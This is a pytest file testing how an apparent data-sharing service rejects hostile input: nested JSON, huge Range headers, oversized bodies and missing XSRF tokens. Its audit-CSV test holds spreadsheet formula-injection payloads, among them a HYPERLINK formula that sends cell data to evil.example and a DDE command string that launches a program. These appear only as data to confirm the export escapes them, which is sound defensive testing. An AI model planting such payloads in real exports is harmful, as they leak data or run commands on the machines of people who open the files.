"""Hostile input gets a clear 4xx naming what is wrong, never a 500, and nothing is stored."""

import csv
import io
import json
import tracemalloc
from urllib.parse import urlencode

import pytest

from jupyter_datashare.core.audit import Event
from tests.conftest import link_for, path_of

TABLE = b"id,value\n1,10\n2,20\n"
JSON = {"Accept": "application/json"}
TOKEN = "hostile-input-test-xsrf"
XSRF = {"Cookie": f"_xsrf={TOKEN}", "X-XSRFToken": TOKEN}
PURPOSE = ("We will estimate how sleep duration relates to reported stress in adults, as a replication "
           "of our 2024 study, and publish only aggregate results.")  # fmt: skip


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


async def restricted(share):
    return await share(access={"level": "restricted"}, committee={"members": ["bob"]}, agreement="No re-identification.")


def request_form(**over):
    body = {"name": "Rosalind Example", "email": "rosalind@uni.example", "institution": "Example University",
            "purpose": PURPOSE, "intended_use": "HMB", "accept_agreement": "on", "requested_days": "90"}  # fmt: skip
    return {**body, **over}


def request_json():
    return {**request_form(), "intended_use": ["HMB"], "accept_agreement": True, "requested_days": 90}


async def post_public(call, *parts, body: str, content_type="application/json"):
    headers = {**XSRF, **JSON, "Content-Type": content_type}
    return await call("POST", *parts, anon=True, headers=headers, raw_body=body)


def error_of(r) -> dict:
    return json.loads(r.body)


async def stored_requests(call) -> list:
    return (await call.json("GET", "datashare", "api", "requests"))["requests"]


# -- deeply nested JSON ------------------------------------------------------------------------


async def test_deeply_nested_json_is_a_400_on_the_body(call, share):
    d = await restricted(share)
    owner = await call("POST", "datashare", "api", "datasets", raw_body=nested(100_000))
    assert owner.code == 400 and error_of(owner)["field"] == "body"
    # Under the public body limit, deep enough to exhaust the parser, and merely too deep to walk.
    for body in ('{"purpose": %s}' % nested(30_000), '{"intended_use": %s}' % nested(40)):
        r = await post_public(call, "datashare", "d", d["id"], "request", body=body)
        assert r.code == 400 and error_of(r)["field"] == "body", r.body[:200]
    assert await stored_requests(call) == []


# -- Range headers -----------------------------------------------------------------------------


@pytest.mark.parametrize("level", ["open", "reviewer-only"])  # plain and encrypted stored files
async def test_huge_range_numbers_mean_what_they_say(call, share, level):
    d = await share(access={"level": level})
    parts = ["datashare", "d", d["id"], "files", "table.csv"]
    if level != "open":
        parts = path_of((await link_for(call, d["id"]))["url"]) + ["files", "table.csv"]
    huge = "9" * 5000

    async def get(range_header):
        return await call("GET", *parts, anon=True, headers={"Range": range_header, **JSON})

    r = await get(f"bytes={huge}-")  # starts after the end of any file
    assert r.code == 416 and r.headers["Content-Range"] == f"bytes */{len(TABLE)}"
    for whole in (f"bytes=0-{huge}", f"bytes=-{huge}"):  # up to the end / a suffix longer than the file
        r = await get(whole)
        assert r.code == 206 and r.body == TABLE and r.headers["Content-Range"] == f"bytes 0-{len(TABLE) - 1}/{len(TABLE)}"
    r = await get("bytes=" + "0" * 5000 + "3-" + "0" * 5000 + "7")
    assert r.code == 206 and r.body == TABLE[3:8]


async def test_a_range_header_that_is_not_one_byte_range_is_ignored(call, share):
    """RFC 9110 §14.2: an invalid (or, here, multi-part) Range is ignored: the whole file, 200."""
    d = await share()
    parts = ("datashare", "d", d["id"], "files", "table.csv")
    for header in ("bytes=abc", "items=0-1", "bytes=--1", "bytes=1-2-3", "bytes=0-1,4-5", "bytes=²-"):
        r = await call("GET", *parts, anon=True, headers={"Range": header})
        assert r.code == 200 and r.body == TABLE and "Content-Range" not in r.headers, header
    r = await call("GET", *parts, anon=True, headers={"Range": "Bytes = 0-1"})  # the unit is case-insensitive
    assert r.code == 206 and r.body == b"id"


async def test_version_numbers_that_are_not_small_integers_are_a_400(call, share):
    d = await share()
    for raw in ("9" * 5000, "²", "1.5", "-1", "0"):
        for parts in (("datashare", "d", d["id"]), ("datashare", "d", d["id"], "files", "table.csv")):
            r = await call("GET", *parts, anon=True, headers=JSON, params={"version": raw})
            assert r.code == 400 and error_of(r)["field"] == "version", (raw, parts)


async def test_form_numbers_that_are_not_small_integers_are_a_400(call, share):
    d = await restricted(share)
    for raw in ("9" * 5000, "²"):
        r = await post_public(call, "datashare", "d", d["id"], "request", body=urlencode(request_form(requested_days=raw)),
                              content_type="application/x-www-form-urlencoded")  # fmt: skip
        assert r.code == 400 and error_of(r)["field"] == "requested_days", r.body[:200]
    assert await stored_requests(call) == []


# -- the size of public bodies -----------------------------------------------------------------


async def test_public_bodies_over_64_kib_are_refused_before_anything_is_read(call, share):
    d = await restricted(share)
    big_json = json.dumps({**request_json(), "purpose": PURPOSE + "x" * 70_000})
    big_form = urlencode(request_form(purpose=PURPOSE + " x" * 35_000))
    routes = [("datashare", "d", d["id"], "request"), ("datashare", "s", "dss_" + "A" * 43, "renewal"),
              ("datashare", "c", "dsc_" + "A" * 43)]  # fmt: skip
    for parts in routes:
        for body, content_type in ((big_json, "application/json"), (big_form, "application/x-www-form-urlencoded")):
            r = await post_public(call, *parts, body=body, content_type=content_type)
            assert r.code == 413, (parts, r.code, r.body[:200])
            assert error_of(r)["field"] == "body" and "65536" in error_of(r)["message"]
    assert await stored_requests(call) == []
    # Just under the limit is an ordinary request (the field bounds say what is too long in it).
    r = await post_public(call, "datashare", "d", d["id"], "request", body=json.dumps(request_json()))
    assert r.code == 201, r.body[:300]


async def test_a_huge_public_body_is_never_held_in_memory(call, share):
    """50 MB to a public form: answered 413, while the server holds no more than the limit of it
    (tornado would otherwise buffer the whole body before any of our code runs)."""
    d = await restricted(share)
    body = b"name=" + b"x" * (50 << 20)
    tracemalloc.start()
    try:
        r = await post_public(call, "datashare", "d", d["id"], "request", body=body,
                              content_type="application/x-www-form-urlencoded")  # fmt: skip
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert r.code == 413 and error_of(r)["field"] == "body"
    assert peak < 10 << 20, f"the server held {peak >> 20} MiB of a 50 MiB body"
    assert await stored_requests(call) == []


async def test_a_streamed_form_still_needs_its_xsrf_token(call, share):
    d = await restricted(share)
    form = urlencode(request_form())
    r = await call("POST", "datashare", "d", d["id"], "request", anon=True, raw_body=form,
                   headers={"Content-Type": "application/x-www-form-urlencoded"})  # fmt: skip
    assert r.code == 403
    r = await call("POST", "datashare", "s", "dss_" + "A" * 43, "renewal", anon=True, raw_body="",
                   headers={"Content-Type": "application/x-www-form-urlencoded"})  # fmt: skip
    assert r.code == 403
    assert await stored_requests(call) == []


# -- formulas in the audit CSV -----------------------------------------------------------------


async def test_audit_csv_cells_never_start_a_formula(call, share, ctx):
    hostile = ['=HYPERLINK("https://evil.example/?x="&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
    d = await share()
    for reason in hostile:
        ctx.audit.record(Event("note.added", "=cmd|' /C calc'!A0", dataset_id=d["id"], reason=reason))
    r = await call("GET", "datashare", "api", "audit", params={"format": "csv", "dataset": d["id"], "limit": "100"})
    assert r.code == 200
    rows = [row for row in csv.DictReader(io.StringIO(r.body.decode())) if row["action"] == "note.added"]
    rows.sort(key=lambda row: int(row["seq"]))
    assert [row["reason"] for row in rows] == ["'" + h for h in hostile]
    assert {row["actor"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert all(row["ts"][:1].isdigit() and row["seq"].isdigit() for row in rows)  # ordinary cells unchanged
    # The JSON export, and the hash chain, keep the exact text.
    events = (await call.json("GET", "datashare", "api", "audit", params={"dataset": d["id"], "limit": "100"}))["events"]
    assert sorted(e["reason"] for e in events if e["action"] == "note.added") == sorted(hostile)
    assert (await call.json("GET", "datashare", "api", "audit", "verify"))["ok"]
